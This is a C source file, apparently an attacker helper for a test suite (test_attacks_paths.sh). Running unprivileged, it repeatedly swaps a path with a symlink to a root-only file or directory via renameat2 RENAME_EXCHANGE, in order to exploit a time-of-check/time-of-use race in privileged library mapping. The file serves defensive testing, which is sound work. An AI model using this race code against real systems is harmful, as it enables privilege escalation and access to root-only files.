/* atk_swap.c — the attacker of issue 28 items 1 and 2, run as an
 * unprivileged user by test_attacks_paths.sh:
 *
 *   atk_swap A B LIB [SYMBOL]
 *
 * maps LIB (dlopen), calls SYMBOL (a function that never returns) in a
 * second thread when given, says "ready PID" on stdout, then exchanges the
 * names A and B (renameat2 RENAME_EXCHANGE) in a loop until killed.  A and
 * B are a file and a symlink to a root-only file (the mapped file's path
 * swapped), or a directory on LIB's path and a symlink to a root-only
 * directory (a component swapped). */
#include <dlfcn.h>
#include <errno.h>
#include <fcntl.h>
#include <pthread.h>
#include <stdio.h>
#include <string.h>
#include <sys/syscall.h>
#include <unistd.h>

#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE (1 << 1)
#endif

static void *spin(void *fn)
{
	((void (*)(void))fn)();
	return NULL;
}

int main(int argc, char **argv)
{
	void *lib, *fn = NULL;
	pthread_t t;

	if (argc < 4) {
		fprintf(stderr, "usage: atk_swap A B LIB [SYMBOL]\n");
		return 2;
	}
	lib = dlopen(argv[3], RTLD_NOW);
	if (!lib) {
		fprintf(stderr, "atk_swap: %s\n", dlerror());
		return 1;
	}
	if (argc > 4) {
		fn = dlsym(lib, argv[4]);
		if (!fn || pthread_create(&t, NULL, spin, fn) != 0) {
			fprintf(stderr, "atk_swap: cannot run %s\n", argv[4]);
			return 1;
		}
	}
	printf("ready %d\n", (int)getpid());
	fflush(stdout);
	for (;;) {
		if (syscall(SYS_renameat2, AT_FDCWD, argv[1], AT_FDCWD, argv[2], RENAME_EXCHANGE) < 0) {
			fprintf(stderr, "atk_swap: renameat2 %s %s: %s\n", argv[1], argv[2],
			        strerror(errno));
			return 1;
		}
	}
}
